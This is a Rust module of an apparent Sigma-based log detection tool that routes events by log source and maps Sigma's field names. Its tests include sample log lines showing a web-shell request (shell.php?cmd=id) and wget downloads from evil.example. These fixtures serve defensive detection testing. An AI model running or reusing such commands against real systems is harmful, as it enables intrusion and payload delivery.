//! Which events Sigma's log sources stand for, and where the fields stand that Sigma's rules name.
//!
//! An event is of one kind or a few; a log source stands for a set of kinds. A rule whose log source stands for none (Windows
//! process creation, say) is loaded and listed, but never asked.

mod asked;

use std::cell::Cell;

pub use asked::{Asked, names};
use lapwing_model::{Detail, Event, Field, Log, Origin, Value, Web};
use lapwing_rules::{Body, Criteria, Fields, Item, LogSource, Pattern, Piece, Rule, RuleError, RuleSet, Test};

/// Kinds of event, one bit each.
type Kinds = u64;
const WEB: Kinds = 1;
const PROXY: Kinds = 1 << 1;
/// A log line of which nothing tells what program wrote it.
const TEXT: Kinds = 1 << 2;
const SYSLOG: Kinds = 1 << 3;
const AUTH: Kinds = 1 << 4;
const SSHD: Kinds = 1 << 5;
const SUDO: Kinds = 1 << 6;
const CRON: Kinds = 1 << 7;
const FTP: Kinds = 1 << 8;
const CLAMAV: Kinds = 1 << 9;
const GUACAMOLE: Kinds = 1 << 10;
const AUDITD: Kinds = 1 << 11;
const DNS: Kinds = 1 << 12;
const FIREWALL: Kinds = 1 << 13;
const ZEEK: Kinds = 1 << 14;
const KUBERNETES: Kinds = 1 << 15;
const CLOUDTRAIL: Kinds = 1 << 16;
const SERVER: Kinds = 1 << 17;

const ALL: Kinds = u64::MAX;
/// What the programs of a Linux machine write.
const LINUX: Kinds = TEXT | SYSLOG | AUTH | SSHD | SUDO | CRON | FTP | CLAMAV | GUACAMOLE | AUDITD;
const LOGINS: Kinds = TEXT | AUTH | SSHD | SUDO | FTP;
/// Everything that is not a request: an application may write in any of these ways.
const LOGS: Kinds = ALL & !(WEB | PROXY | ZEEK | KUBERNETES | CLOUDTRAIL);

/// The kinds of event that a log source stands for.
#[must_use]
pub fn kinds_of(source: &LogSource) -> u64 {
    let lower = |part: &Option<String>| part.as_deref().map(str::to_ascii_lowercase);
    let category = lower(&source.category).map_or(ALL, |category| of_category(&category));
    let product = lower(&source.product).map_or(ALL, |product| of_product(&product));
    let service = lower(&source.service).map_or(ALL, |service| of_service(&service));
    category & product & service
}

fn of_category(category: &str) -> Kinds {
    match category {
        "webserver" | "web" => WEB,
        "proxy" => PROXY,
        "application" => LOGS | KUBERNETES,
        "authentication" => LOGINS,
        "firewall" => FIREWALL,
        "dns" => DNS,
        "database" => TEXT | SYSLOG,
        "antivirus" => CLAMAV,
        "network" => ZEEK | DNS | FIREWALL,
        _ => 0,
    }
}

fn of_product(product: &str) -> Kinds {
    match product {
        "linux" | "unix" | "bsd" => LINUX | FIREWALL | SERVER,
        "apache" | "nginx" | "iis" | "tomcat" | "caddy" | "haproxy" | "traefik" => WEB | SERVER,
        "modsecurity" => SERVER | TEXT,
        "squid" => PROXY,
        "zeek" | "bro" => ZEEK,
        "dns" | "bind" => DNS,
        "kubernetes" => KUBERNETES,
        "aws" => CLOUDTRAIL,
        "django" | "python" | "spring" | "jvm" | "java" | "ruby_on_rails" | "nodejs" | "php" | "sql" | "velocity" => LOGS,
        _ => 0,
    }
}

fn of_service(service: &str) -> Kinds {
    match service {
        "sshd" | "ssh" => SSHD | TEXT,
        "auth" | "pam" | "secure" => LOGINS,
        "sudo" => SUDO | TEXT,
        "cron" => CRON | TEXT,
        "vsftpd" | "ftp" => FTP | TEXT,
        "clamav" => CLAMAV | TEXT,
        "guacamole" => GUACAMOLE | TEXT,
        "syslog" => LINUX & !AUDITD | FIREWALL | SERVER,
        "auditd" => AUDITD,
        "apache" | "nginx" => WEB | SERVER | TEXT,
        "cloudtrail" => CLOUDTRAIL,
        "audit" => KUBERNETES,
        "dns" => DNS | ZEEK,
        "http" | "conn" | "connection" | "ssl" | "x509" | "kerberos" | "rdp" | "smb_files" | "dce_rpc" | "ftp_zeek" | "smtp"
        | "files" | "notice" => ZEEK,
        _ => 0,
    }
}

/// Compiles rules with routing, their fields put where ours are.
#[must_use]
pub fn compile(mut rules: Vec<Rule>) -> (RuleSet, Vec<RuleError>) {
    rules.iter_mut().for_each(fit);
    RuleSet::compile_for(rules, kinds_of)
}

/// Rewrites what Sigma's rules for web logs ask for and no log has by that name.
fn fit(rule: &mut Rule) {
    let web = kinds_of(&rule.logsource) & (WEB | PROXY) != 0 && !rule.logsource.is_empty();
    match &mut rule.body {
        Body::Detection(detection) if web => detection.selections.iter_mut().for_each(|own| fit_criteria(&mut own.criteria)),
        Body::Filter(filter) if web => filter.detection.selections.iter_mut().for_each(|own| fit_criteria(&mut own.criteria)),
        _ => {}
    }
}

fn fit_criteria(criteria: &mut Criteria) {
    match criteria {
        Criteria::All(parts) | Criteria::Any(parts) => parts.iter_mut().for_each(fit_criteria),
        Criteria::Item(item) => fit_item(item),
    }
}

fn fit_item(item: &mut Item) {
    match item.field.as_str() {
        // Many rules of the field look here for paths as well: they mean what was asked for as a whole.
        "cs-uri-query" | "c-uri-query" if !item.tests.iter().all(begins_as_query) => item.field = Field::Url.name().to_owned(),
        "c-uri-extension" | "cs-uri-extension" => {
            let literal = |test: &Test| match test {
                Test::Pattern(pattern) => pattern.as_literal().map(<[u8]>::to_vec),
                _ => None,
            };
            if let Some(endings) = item.tests.iter().map(literal).collect::<Option<Vec<_>>>() {
                let ending = |ending: Vec<u8>| Test::Pattern(Pattern::literal(&[b".", &*ending].concat()).after_anything());
                item.tests = endings.into_iter().map(ending).collect();
                item.field = Field::Path.name().to_owned();
            }
        }
        _ => {}
    }
}

/// Whether what a value must begin with is no path.
fn begins_as_query(test: &Test) -> bool {
    match test {
        Test::Pattern(pattern) => matches!(pattern.pieces().first(), Some(Piece::Literal(text)) if !text.starts_with(b"/")),
        Test::Number(_) | Test::Exists(_) | Test::Compare(..) => true,
        _ => false,
    }
}

/// Says of which kinds events are.
#[derive(Debug)]
pub struct Router {
    zeek: Field,
    cloudtrail: Field,
    kubernetes: Field,
    dns: [Field; 3],
    audit: Field,
    identifier: Field,
    /// The origin of the event before, and whether it is a proxy by its name.
    origin: Cell<Option<(u64, bool)>>,
}

impl Default for Router {
    fn default() -> Self {
        let other = |name: &str| Field::Other(name.into());
        Router {
            zeek: other("id.resp_h"),
            cloudtrail: other("eventSource"),
            kubernetes: other("auditID"),
            dns: [other("record_type"), other("qtype_name"), other("dns.question.name")],
            audit: other("type"),
            identifier: other("SYSLOG_IDENTIFIER"),
            origin: Cell::new(None),
        }
    }
}

impl Router {
    #[must_use]
    pub fn kinds(&self, event: &Event) -> u64 {
        let own = if event.others.is_empty() { 0 } else { self.structured(event) };
        match &event.detail {
            Detail::Web(web) => own | self.web_kinds(event, web),
            Detail::Log(_) if own != 0 => own,
            Detail::Flow(_) => own | FIREWALL,
            Detail::Log(log) => self.log_kinds(event, log),
        }
    }

    /// A request to somewhere else passed a proxy: it names the whole URL, or asks for a tunnel; or the log itself is a proxy's.
    fn web_kinds(&self, event: &Event, web: &Web) -> Kinds {
        let target = event.text(web.target);
        let elsewhere = target.starts_with(b"http://") || target.starts_with(b"https://") || event.text(web.method) == b"CONNECT";
        if elsewhere || is_proxy(event.text(event.service)) || self.is_of_proxy(&event.origin) { WEB | PROXY } else { WEB }
    }

    fn is_of_proxy(&self, origin: &Origin) -> bool {
        match self.origin.get() {
            Some((id, known)) if id == origin.id => known,
            _ => {
                let found = is_proxy(origin.name.as_bytes());
                self.origin.set(Some((origin.id, found)));
                found
            }
        }
    }

    fn structured(&self, event: &Event) -> Kinds {
        let has = |field: &Field| event.get(field) != Value::Absent;
        let known = [(&self.zeek, ZEEK), (&self.cloudtrail, CLOUDTRAIL), (&self.kubernetes, KUBERNETES)];
        let mut kinds = known.iter().filter(|(field, _)| has(field)).fold(0, |kinds, (_, kind)| kinds | kind);
        if self.dns.iter().any(has) {
            kinds |= DNS;
        }
        if let Detail::Log(log) = &event.detail
            && event.text(log.message).starts_with(b"audit(")
            && has(&self.audit)
        {
            kinds |= AUDITD;
        }
        kinds
    }

    fn log_kinds(&self, event: &Event, log: &Log) -> Kinds {
        let program = match event.get(&self.identifier) {
            Value::Text(program) => program,
            _ => event.text(log.logger),
        };
        let program = &program[program.iter().rposition(|&byte| byte == b'/').map_or(0, |at| at + 1)..];
        let program = &program[..program.iter().position(|byte| b"([-".contains(byte)).unwrap_or(program.len())];
        match program {
            b"" => match event.text(event.service) {
                b"" => TEXT,
                service => of_program(service).unwrap_or(TEXT),
            },
            b"kernel" if log_says(event, log, b"SRC=") => FIREWALL,
            b"kernel" | b"audit" if event.text(log.message).starts_with(b"audit") => AUDITD,
            program => of_program(program).unwrap_or(if event.text(event.host).is_empty() { TEXT } else { SYSLOG }),
        }
    }
}

fn log_says(event: &Event, log: &Log, word: &[u8]) -> bool {
    event.text(log.message).windows(word.len()).any(|window| window == word)
}

fn of_program(program: &[u8]) -> Option<Kinds> {
    Some(match program {
        b"sshd" | b"dropbear" => SSHD,
        b"sudo" | b"doas" => SUDO,
        b"su" | b"login" | b"systemd" | b"gdm" | b"polkitd" | b"pkexec" | b"useradd" | b"usermod" | b"groupadd" | b"passwd" => {
            AUTH
        }
        b"cron" | b"CRON" | b"crond" | b"crontab" | b"anacron" => CRON,
        b"vsftpd" | b"proftpd" | b"ftpd" | b"pure" => FTP,
        b"clamd" | b"clamav" | b"freshclam" | b"clamscan" => CLAMAV,
        b"guacd" | b"guacamole" => GUACAMOLE,
        b"auditd" | b"audispd" => AUDITD,
        b"named" | b"dnsmasq" | b"unbound" | b"coredns" | b"pdns_recursor" => DNS,
        b"apache2" | b"httpd" | b"nginx" => SERVER,
        _ => return None,
    })
}

/// Whether somebody is a proxy by the name.
fn is_proxy(name: &[u8]) -> bool {
    name.windows(5).any(|part| part == b"proxy" || part == b"squid")
}

/// An event as the rules see it.
#[derive(Debug)]
pub struct Seen<'a> {
    pub event: &'a Event,
    pub fields: &'a [Asked],
    pub kinds: u64,
}

impl Fields for Seen<'_> {
    fn get(&self, field: usize) -> lapwing_rules::Value<'_> {
        self.fields[field].of(self.event)
    }

    fn kinds(&self) -> u64 {
        self.kinds
    }
}

/// The fields that a rule set asks for, looked up once.
#[must_use]
pub fn fields(set: &RuleSet) -> Vec<Asked> {
    set.fields().iter().map(|name| Asked::named(name)).collect()
}

#[cfg(test)]
mod tests {
    use lapwing_rules::{Scratch, parse};

    use super::*;
    use crate::testing::read;

    /// Whether a rule of that log source and selection matches the line.
    fn matches(source: &str, selection: &str, line: &str) -> bool {
        let yaml = format!("title: t\nlogsource: {source}\ndetection:\n  s: {selection}\n  condition: s\n");
        let (set, errors) = compile(parse("x.yml", &yaml).0);
        assert_eq!(errors, []);
        let (event, fields, mut found) = (read(line), fields(&set), Vec::new());
        let seen = Seen { event: &event, fields: &fields, kinds: Router::default().kinds(&event) };
        set.matches(&mut Scratch::new(), &seen, &mut found);
        !found.is_empty()
    }

    const WEB: &str = r#"203.0.113.9 - bob [01/Mar/2025:10:00:00 +0000] "GET /a/shell.php?cmd=id HTTP/1.1" 404 157 "http://x.example/" "curl/8""#;
    const PROXIED: &str =
        r#"10.0.0.5 - - [01/Mar/2025:10:00:00 +0000] "GET http://evil.example/a.exe HTTP/1.1" 200 157 "-" "curl/8.0""#;
    const SSH: &str = "Mar  1 10:00:00 web1 sshd[7]: Failed password for root from 203.0.113.9 port 50222 ssh2";
    const PACKET: &str =
        "Mar  1 10:00:00 fw kernel: [1.5] DROP IN=eth0 OUT= SRC=203.0.113.9 DST=10.1.2.3 PROTO=TCP SPT=4711 DPT=3389";
    const AUDIT: &str = r#"type=EXECVE msg=audit(1740823200.123:42): argc=2 a0="wget" a1="http://evil.example/x""#;
    const ZEEK: &str = r#"{"ts":1740823200.1,"uid":"C1","id.orig_h":"10.0.0.5","id.orig_p":53211,"id.resp_h":"10.0.0.1","id.resp_p":53,"query":"evil.example","qtype_name":"TXT"}"#;

    #[test]
    fn an_event_belongs_to_the_log_sources_of_its_kind_and_to_no_others() {
        for (line, its, others) in [
            (
                WEB,
                &["{category: webserver}", "{product: apache}"][..],
                &["{category: proxy}", "{product: linux, service: sshd}", "{category: dns}"][..],
            ),
            (PROXIED, &["{category: proxy}"], &["{category: firewall}"]),
            (
                SSH,
                &[
                    "{product: linux, service: sshd}",
                    "{product: linux, service: auth}",
                    "{product: linux}",
                    "{category: application}",
                    "{}",
                ],
                &[
                    "{category: webserver}",
                    "{product: linux, service: cron}",
                    "{product: windows}",
                    "{product: linux, service: auditd}",
                ],
            ),
            (PACKET, &["{category: firewall}", "{product: linux}"], &["{product: linux, service: sshd}", "{category: proxy}"]),
            (
                AUDIT,
                &["{product: linux, service: auditd}"],
                &["{product: linux, service: sshd}", "{category: webserver}", "{product: linux, category: process_creation}"],
            ),
            (
                ZEEK,
                &["{product: zeek, service: dns}", "{category: dns}", "{product: zeek}"],
                &["{product: linux, service: syslog}", "{category: webserver}"],
            ),
        ] {
            let kinds = Router::default().kinds(&read(line));
            for (sources, wanted) in [(its, true), (others, false)] {
                for source in sources {
                    let yaml = format!("title: t\nlogsource: {source}\ndetection:\n  s: {{a: 1}}\n  condition: s\n");
                    let rule = &parse("x.yml", &yaml).0[0];
                    assert_eq!(kinds_of(&rule.logsource) & kinds != 0, wanted, "{source} and {line}");
                }
            }
        }
    }

    #[test]
    fn fields_by_sigmas_names_stand_where_the_logs_have_them() {
        let web = "{category: webserver}";
        for (source, selection, line, wanted) in [
            (web, "{cs-method: GET, sc-status: 404, c-ip|cidr: 203.0.113.0/24, cs-username: bob}", WEB, true),
            (web, "{cs-uri-stem|endswith: shell.php}", WEB, true),
            (web, "{cs-uri-query|contains: /a/shell.php}", WEB, true),
            (web, "{cs-uri-query|startswith: 'cmd='}", WEB, true),
            (web, "{cs-uri-query|startswith: '/a/'}", WEB, true),
            (web, "{cs-uri-query: 'cmd=id'}", WEB, true),
            (web, "{c-uri-extension: [php, asp]}", WEB, true),
            (web, "{c-uri-extension: exe}", WEB, false),
            (web, "{cs-referrer|contains: x.example, c-useragent|startswith: curl}", WEB, true),
            ("{category: proxy}", "{c-uri|contains: evil.example, c-uri-extension: exe}", PROXIED, true),
            ("{category: firewall}", "{src_ip: 203.0.113.9, dst_ip|cidr: 10.0.0.0/8, dst_port: 3389}", PACKET, true),
            ("{category: firewall}", "{dst_port: [22, 23]}", PACKET, false),
            ("{product: linux, service: auditd}", "{type: EXECVE, a0: wget}", AUDIT, true),
            ("{category: dns}", "{query|endswith: .example, record_type: TXT}", ZEEK, true),
            ("{product: zeek}", "{id.resp_p: 53, src_ip: 10.0.0.5}", ZEEK, true),
            (web, "{date|hour: 10, '@timestamp|year|gte': 2025}", WEB, true),
            (web, "{date|hour: 11}", WEB, false),
            ("{service: sshd}", "['failed password']", SSH, true),
        ] {
            assert_eq!(matches(source, selection, line), wanted, "{selection} on {line}");
        }
    }

    #[test]
    fn a_rule_that_no_event_can_meet_is_kept_and_known_as_such() {
        let yaml = "title: w\nlogsource: {product: windows, category: process_creation}\ndetection: {s: {Image|endswith: x.exe}, condition: s}\n";
        let (set, errors) = compile(parse("x.yml", yaml).0);
        assert!(errors.is_empty() && set.rules().len() == 1 && !set.applicable(0) && set.fields().is_empty());
    }
}
